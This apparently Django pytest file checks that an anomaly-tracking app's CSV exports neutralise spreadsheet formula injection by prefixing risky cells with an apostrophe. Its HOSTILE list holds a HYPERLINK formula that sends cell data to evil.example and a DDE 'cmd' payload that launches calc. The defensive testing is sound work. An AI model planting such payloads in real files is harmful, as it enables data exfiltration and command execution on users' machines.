"""CSV exports never hand a spreadsheet a formula (issue 22, case 12; OWASP "CSV Injection")."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anomalyhub.lib.csv_cells import FORMULA_STARTS, safe_cell, safe_rows
from tests.factories import AnomalyFactory, RuleFactory, SeriesFactory

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _export(client, dataset, file_format):
    response = client.get(f"/api/v1/export/?dataset={dataset}&file_format={file_format}")
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def hostile_org(org_a, alice_client):
    sensor = SeriesFactory(organization=org_a, symbol="pump.temp", kind="metric", exchange="", bar_seconds=None)
    ticks = SeriesFactory(organization=org_a, symbol="TCK", kind="trade", exchange="", bar_seconds=None)
    alice_client.post(f"/api/v1/series/{sensor.pk}/points/", [{"ts": "2024-01-02T10:00:00Z", "value": -1.5}],
                      format="json")
    alice_client.post(f"/api/v1/series/{ticks.pk}/points/",
                      [{"ts": f"2024-01-02T10:00:0{i}Z", "price": 10.5, "size": 1, "trade_id": text}
                       for i, text in enumerate(HOSTILE)], format="json")
    for text in HOSTILE:
        RuleFactory(organization=org_a, series=sensor, metrics="value > 15", name=text)
        AnomalyFactory(organization=org_a, series=sensor, text=text)
    return alice_client


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("dataset", ["points", "anomalies", "rules"])
def test_no_csv_cell_starts_a_formula(hostile_org, dataset):
    cells = _cells(_export(hostile_org, dataset, "csv"))
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-1.5"] == []
    quoted = [c for c in cells if c.startswith("'")]
    assert sorted(c[1:] for c in quoted) == sorted(HOSTILE), quoted  # the text itself is all still there


def test_numbers_stay_numbers_and_json_stays_as_typed(hostile_org):
    assert "-1.5" in _cells(_export(hostile_org, "points", "csv"))
    names = sorted(r["name"] for r in json.loads(_export(hostile_org, "rules", "json")))
    assert names == sorted(HOSTILE)


@given(st.text(max_size=20))
def test_safe_cell_never_starts_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text


def test_safe_rows_copies_only_rows_that_need_it():
    rows = [("a", -1.5), ("=1", -2.0)]
    assert safe_rows(rows, [0]) == [("a", -1.5), ["'=1", -2.0]]
    plain = [("a", 1)]
    assert safe_rows(plain, [0]) is plain
